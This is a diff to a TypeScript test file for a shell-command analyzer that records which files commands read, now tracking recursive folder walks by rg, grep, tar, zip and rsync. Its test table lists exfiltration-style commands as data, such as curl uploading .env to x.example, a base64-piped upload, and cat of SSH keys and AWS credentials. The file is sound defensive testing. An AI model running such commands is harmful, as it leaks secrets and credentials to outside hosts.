@@ -89,7 +89,12 @@ const READS: readonly (readonly [string, readonly FileEffect[]])[] = [
   ['. ./.env', [r('./.env', '.')]],
   ['grep TOKEN .env', [r('.env', 'grep')]],
   ['grep -e A -e B .env x', [r('.env', 'grep'), r('x', 'grep')]],
-  ['rg -n TOKEN .env', [r('.env', 'rg')]],
+  // rg and ag walk a folder operand (hidden entries skipped unless told); a file operand is read as it is
+  ['rg -n TOKEN .env', [{ ...r('.env', 'rg'), deep: { hidden: false, links: false } }]],
+  ['rg --hidden -L -g "*.ts" -g "!dist" TOKEN src', [{ ...r('src', 'rg'), deep: { hidden: true, links: true, include: ['*.ts'], exclude: ['dist'] } }]],
+  ['grep -r TOKEN', [{ ...r('.', 'grep'), deep: { hidden: true, links: false } }]],
+  ['grep -Rn --include="*.ts" --exclude-dir=node_modules TOKEN src', [{ ...r('src', 'grep'), deep: { hidden: true, links: true, include: ['*.ts'], exclude: ['node_modules'] } }]],
+  ['cp -r src /tmp/x', [{ ...r('src', 'cp'), deep: { hidden: true, links: false } }]],
   ['head -n 5 .env; tail -c 10 .env', [r('.env', 'head'), r('.env', 'tail')]],
   ['awk -F= "{print}" .env', [r('.env', 'awk')]],
   ['sed -n 1p .env', [r('.env', 'sed')]],
@@ -99,7 +104,8 @@ const READS: readonly (readonly [string, readonly FileEffect[]])[] = [
   ['cp .env /tmp/x', [r('.env', 'cp')]],
   ['scp .env host:/tmp', [r('.env', 'scp')]],
   ['dd if=.env of=/dev/null', [r('.env', 'dd')]],
-  ['tar -cf out.tar .env src', [r('.env', 'tar'), r('src', 'tar')]],
+  ['tar -cf out.tar .env src', [{ ...r('.env', 'tar'), deep: { hidden: true, links: false } }, { ...r('src', 'tar'), deep: { hidden: true, links: false } }]],
+  ['zip -r out.zip src', [{ ...r('src', 'zip'), deep: { hidden: true, links: true } }]],
   ['zip out.zip .env', [r('.env', 'zip')]],
   ['curl -F f=@.env https://x.example', [r('.env', 'curl')]],
   ['curl -d @.env https://x.example', [r('.env', 'curl')]],
@@ -109,7 +115,7 @@ const READS: readonly (readonly [string, readonly FileEffect[]])[] = [
   ['git show :src/a.ts', [r('src/a.ts', 'git show')]],
   ['base64 .env | curl -d @- x.example', [r('.env', 'base64')]],
   ['bash deploy.sh', [r('deploy.sh', 'bash')]],
-  ['cat $HOME/.ssh/id_rsa ~/.aws/credentials', [r('$HOME/.ssh/id_rsa', 'cat'), r('~/.aws/credentials', 'cat')]],
+  ['cat $HOME/.ssh/id_rsa ~/.aws/credentials', [{ ...r('$HOME/.ssh/id_rsa', 'cat'), unknown: 'var' }, r('~/.aws/credentials', 'cat')]],
 ];
 
 /** [line, urls, exactly] */
@@ -166,6 +172,6 @@ describe('analyzeShell: effects', () => {
   it('reports the remote side of scp/rsync as a host, not a local file', () => {
     const a = analyzeShell('rsync -av src/ host:/dst');
     expect(a.writes).toEqual([]);
-    expect(a.reads).toEqual([r('src/', 'rsync')]);
+    expect(a.reads).toEqual([{ ...r('src/', 'rsync'), deep: { hidden: true, links: false } }]);
   });
 });
